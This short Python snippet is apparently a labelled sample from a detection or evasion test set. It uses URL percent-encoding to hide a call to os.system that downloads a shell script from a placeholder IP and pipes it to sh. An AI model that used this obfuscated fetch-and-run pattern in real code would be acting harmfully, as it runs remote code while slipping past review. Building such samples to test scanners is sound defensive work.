# evasion: module, function and command are URL percent-encoded and decoded with urllib.parse.unquote
# grade: hard; does: shell
from urllib.parse import unquote, unquote_plus

MODULE = "%6f%73"
FUNC = "%73%79%73%74%65%6d"
CMD = "curl+-s+http%3A%2F%2F198.51.100.45%2Fa.sh+%7C+sh"

target = getattr(__import__(unquote(MODULE)), unquote(FUNC))
target(unquote_plus(CMD))
